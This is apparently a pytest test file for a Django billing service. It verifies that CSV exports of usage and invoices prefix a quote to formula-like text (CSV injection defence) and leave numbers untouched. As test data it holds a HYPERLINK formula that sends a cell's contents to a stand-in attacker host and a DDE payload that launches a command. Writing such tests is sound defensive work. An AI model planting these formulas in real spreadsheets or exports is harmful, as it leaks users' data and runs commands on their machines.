"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection): text a customer chose
that starts with = + - @, a tab or a carriage return is prefixed with a quote; numbers are not."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.utils import timezone

from accounts.roles import Role
from billing.ledger import usage_events_ingest
from controlplane.spreadsheets import csv_cell
from tests.billing.factories import UsageEventFactory
from tests.billing.test_api import close_last_period
from tests.catalog.factories import TokenPriceFactory

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-0.40", "-0.40"),  # a credit: a number, never a formula
        ("+12", "+12"),
        ("-1e3", "-1e3"),
        ("backend (sk-abc…)", "backend (sk-abc…)"),
        ("", ""),
        (None, None),
        (7, 7),
    ],
)
def test_csv_cell(value, written):
    assert csv_cell(value) == written


@pytest.fixture
def priced_version(version):
    TokenPriceFactory(
        model_version=version,
        input_per_million=Decimal("0.500000"),
        output_per_million=Decimal("1.500000"),
        effective_from=timezone.now() - timedelta(days=400),
    )
    return version


@pytest.mark.django_db
def test_a_key_named_like_a_formula_is_text_in_the_usage_csv(
    organization, api, make_api_key, priced_version
):
    key, _ = make_api_key(organization, name=HYPERLINK)
    UsageEventFactory(organization=organization, model_version_id=priced_version.pk, api_key=key)
    usage_events_ingest()
    response = api.get("/api/v1/usage?format=csv&group_by=api_key")
    assert response.status_code == 200
    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["label"].startswith("'=HYPERLINK(")
    assert row["amount"] == "0.001250"  # numbers untouched
    # JSON is data, not a spreadsheet: unchanged there.
    [item] = api.get("/api/v1/usage?group_by=api_key").json()["results"]
    assert item["label"].startswith("=HYPERLINK(")


@pytest.mark.django_db
def test_invoice_csv_lines_are_text(organization, key_client, priced_version):
    # Descriptions start with the model's slug (operator-chosen, validated): defence in depth.
    type(priced_version.model).objects.filter(pk=priced_version.model_id).update(slug="@SUM(1+1)")
    invoice = close_last_period(organization, priced_version)
    client = key_client(organization, Role.BILLING)
    body = client.get(f"/api/v1/invoices/{invoice.pk}.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    lines = [r for r in rows if r["kind"] in ("input_tokens", "output_tokens")]
    assert lines and all(r["description"].startswith("'@SUM(1+1):") for r in lines)
    assert [r["amount"] for r in lines] == ["1.00", "1.50"]
